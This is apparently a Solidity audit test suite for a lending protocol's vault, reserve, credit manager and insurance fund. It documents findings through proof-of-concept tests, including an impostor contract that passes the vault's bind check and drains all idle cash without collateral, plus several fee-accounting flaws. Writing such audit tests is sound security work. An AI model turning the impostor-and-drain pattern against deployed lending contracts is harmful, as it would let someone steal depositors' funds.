// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {console} from "hardhat/console.sol";

import {ICreditManager} from "../../contracts/interfaces/ICreditManager.sol";
import {IStableVault} from "../../contracts/interfaces/IStableVault.sol";
import {IUniswapV2Router} from "../../contracts/interfaces/external/IUniswapV2Router.sol";
import {CreditManager} from "../../contracts/lending/CreditManager.sol";
import {EthReserve} from "../../contracts/lending/EthReserve.sol";
import {StableVault} from "../../contracts/lending/StableVault.sol";
import {LendingBase} from "./LendingBase.sol";

/// @notice Answers `modules()` with the right vault and fund, but is no credit manager: it lends to itself.
contract ModulesImpostor {
    address internal immutable _VAULT;
    address internal immutable _FUND;

    constructor(address vault_, address fund_) {
        (_VAULT, _FUND) = (vault_, fund_);
    }

    function modules() external view returns (ICreditManager.Modules memory m) {
        (m.vault, m.insuranceFund) = (_VAULT, _FUND);
    }

    function drain() external returns (uint256 taken) {
        taken = IStableVault(_VAULT).idle();
        IStableVault(_VAULT).borrow(address(this), taken, address(this), 0);
    }
}

/// @notice Audit s8b: the point-back binds and the liquidation fee booked in the vault.
contract AuditS8bTest is LendingBase {
    /// @dev alice at max (1,000 QER, 1,000 USDC drawn), QER to $1, liquidated at the close factor: repays 500,
    /// pays a 10 USDC fee (25% of the 8% bonus), booked in the vault as owed to the fund.
    function _liquidateAlice() internal {
        _addCollateral(alice, 1_000 ether);
        _borrow(alice, 1_000e6);
        _setQerPrice(1e8);
        _fund(liquidator, 1_000e6);
        vm.prank(liquidator);
        cm.liquidate(alice, type(uint256).max);
    }

    /// @dev Info. The point-back check only reads `modules()`: any contract answering it with this vault and fund
    /// passes, and then borrows the whole idle cash (1,000,000) without collateral. The check catches a typo, not
    /// an impostor (the bind is admin-only, so this needs the admin to be misled).
    function test_Exploit_impostorAnsweringModulesPassesTheVaultBind() public {
        StableVault fresh = new StableVault(
            address(manager), IERC20(address(usdc)), fund, "Fresh", "F", vault.rateParams()
        );
        usdc.mint(supplier, SUPPLY);
        vm.startPrank(supplier);
        usdc.approve(address(fresh), SUPPLY);
        fresh.deposit(SUPPLY, supplier);
        vm.stopPrank();

        ModulesImpostor impostor = new ModulesImpostor(address(fresh), address(fund));
        fresh.bindCreditManager(address(impostor)); // the admin: passes the new check
        assertEq(fresh.creditManager(), address(impostor), "bound for good");
        uint256 taken = impostor.drain();
        assertEq(taken, SUPPLY, "1,000,000 drawn");
        assertEq(usdc.balanceOf(address(impostor)), SUPPLY, "with no collateral");
    }

    /// @dev Low. The fee is the fund's cash, but `idle` (which counts it) is what `claimRedeem` and `borrow` pay
    /// out of: a supplier's exit takes the 10 USDC fee as liquidity; the fund then cannot collect it (before the
    /// change it held the 10 at once). Its claim now waits on alice's 500 of debt being repaid.
    function test_Exploit_liquidationFeePaysASuppliersExit_fundCannotCollect() public {
        _liquidateAlice();
        assertEq(vault.insuranceOwed(), 10e6, "fee owed to the fund");
        uint256 idle0 = vault.idle();
        assertEq(idle0, SUPPLY - 1_000e6 + 510e6, "999,510: includes the fund's 10");
        assertEq(vault.totalAssets(), SUPPLY, "suppliers' assets: 999,510 + 500 debt - 10 owed");

        // The supplier exits with shares worth the whole idle cash, the fund's 10 included.
        uint256 shares = vault.convertToShares(idle0);
        vm.prank(supplier);
        (uint256 quoted, ) = vault.requestRedeem(shares);
        vm.warp(block.timestamp + 1 hours);
        vm.prank(supplier);
        uint256 paid = vault.claimRedeem(supplier);
        console.log("quoted", quoted, "paid", paid);
        console.log("idle after", vault.idle(), "owed", vault.insuranceOwed());
        assertGe(paid + 10e6, idle0, "the exit took the fee's cash");
        assertLt(vault.idle(), 10e6, "less idle than the fund is owed");
        uint256 fundBefore = usdc.balanceOf(address(fund));
        try vault.collectInsuranceFees() returns (uint256 got) {
            console.log("collected", got);
        } catch {
            console.log("collect reverted (NothingToCollect)");
        }
        assertLt(usdc.balanceOf(address(fund)) - fundBefore, 10e6, "the fund cannot draw its 10");
    }

    /// @dev Low. The owed fee sits in `idle`, which the rate model reads as supplied liquidity: booking it lowers
    /// utilisation and the borrow rate; anyone's `collectInsuranceFees` raises it again.
    function test_Exploit_owedFeeLowersTheBorrowRate() public {
        _liquidateAlice();
        uint256 withFee = vault.borrowRate();
        vault.collectInsuranceFees();
        uint256 afterCollect = vault.borrowRate();
        console.log("rate with the fee in idle", withFee, "after collect", afterCollect);
        assertLt(withFee, afterCollect, "the fund's cash dilutes utilisation");
    }

    /// @dev Safe check: the fee leaves totalAssets unchanged, is collected once, books equal real balance.
    function test_feeBookedOnce_booksMatchBalance() public {
        uint256 assets0 = vault.totalAssets();
        _liquidateAlice();
        assertEq(vault.totalAssets(), assets0, "fee outside suppliers' assets");
        assertEq(usdc.balanceOf(address(vault)), vault.idle(), "idle == balance");
        assertEq(vault.collectInsuranceFees(), 10e6, "collected once");
        vm.expectRevert(IStableVault.NothingToCollect.selector);
        vault.collectInsuranceFees();
        assertEq(usdc.balanceOf(address(vault)), vault.idle(), "idle == balance after");
        assertEq(vault.totalAssets(), assets0, "unchanged");
    }

    /// @dev Low. A closing liquidation that writes debt off still charges the fee on the repayment (the bonus
    /// shrinks but 25% x 8% of the repaid is taken), and `settle` books it after the write-off: suppliers take the
    /// whole 54,034.761712 loss while the same call books 919.304766 for the fund. Booked first, `_writeOff` would
    /// draw it from `insuranceOwed` and the suppliers would lose 53,115.456946.
    function test_Exploit_feeBookedAfterWriteOff_suppliersBearTheLossTheFeeCouldAbsorb() public {
        address informed = makeAddr("informed");
        _supply(informed, SUPPLY);
        _addCollateral(alice, 100_000 ether);
        _borrow(alice, 100_000e6);
        _setQerPrice(0.05e8);
        assertEq(usdc.balanceOf(address(fund)), 0, "empty fund");
        _fund(liquidator, 50_000e6);
        vm.prank(liquidator);
        cm.liquidate(alice, type(uint256).max);
        uint256 loss = vault.badDebt();
        uint256 owed = vault.insuranceOwed();
        console.log("suppliers' loss", loss, "fee owed to the fund", owed);
        assertEq(loss, 54_034_761_712, "suppliers bear the full shortfall");
        assertEq(owed, 919_304_766, "while the fund is credited the fee of the same liquidation");
        assertEq(vault.collectInsuranceFees(), 919_304_766, "and draws it out");
    }

    /// @dev Info. Each bind checks only its own side: a vault and a reserve can be bound to two different (real)
    /// credit managers built on them, both checks pass, and the pair is permanent; the vault's credit manager can
    /// then never buy or release ETH in the reserve.
    function test_Exploit_vaultAndReserveBoundToDifferentManagers() public {
        StableVault v = new StableVault(address(manager), IERC20(address(usdc)), fund, "V", "V", vault.rateParams());
        EthReserve r = new EthReserve(
            address(manager), IERC20(address(usdc)), IUniswapV2Router(address(router)), oracle, SLIPPAGE, ETH_RETURN
        );
        ICreditManager.Modules memory m = ICreditManager.Modules({
            collateral: address(qer),
            vault: address(v),
            reserve: address(r),
            oracle: address(oracle),
            insuranceFund: address(fund)
        });
        ICreditManager.RiskParams memory risk = cm.riskParams();
        CreditManager a = new CreditManager(address(manager), m, risk, PAUSE_DURATION, _lockerPerk());
        CreditManager b = new CreditManager(address(manager), m, risk, PAUSE_DURATION, _lockerPerk());
        v.bindCreditManager(address(a));
        r.bindCreditManager(address(b));
        assertEq(v.creditManager(), address(a), "vault -> A");
        assertEq(r.creditManager(), address(b), "reserve -> B, for good");
    }

    /// @dev Info. The credit manager's constructor and the vault's bind check that the vault names the fund, but
    /// nothing checks that the fund is bound to that vault: a second vault on the preset's fund gets a credit
    /// manager bound, while `fund.cover` answers only the first vault (`NotVault`), so any write-off on the
    /// second would revert and its insolvent positions could not be closed.
    function test_Exploit_secondVaultOnABoundFund_bindsPassButCoverIsRefused() public {
        StableVault v = new StableVault(address(manager), IERC20(address(usdc)), fund, "V", "V", vault.rateParams());
        EthReserve r = new EthReserve(
            address(manager), IERC20(address(usdc)), IUniswapV2Router(address(router)), oracle, SLIPPAGE, ETH_RETURN
        );
        ICreditManager.Modules memory m = ICreditManager.Modules({
            collateral: address(qer),
            vault: address(v),
            reserve: address(r),
            oracle: address(oracle),
            insuranceFund: address(fund)
        });
        CreditManager c = new CreditManager(address(manager), m, cm.riskParams(), PAUSE_DURATION, _lockerPerk());
        v.bindCreditManager(address(c));
        r.bindCreditManager(address(c));
        assertEq(fund.vault(), address(vault), "the fund answers the first vault only");
        vm.prank(address(v));
        vm.expectRevert();
        fund.cover(1);
    }
}
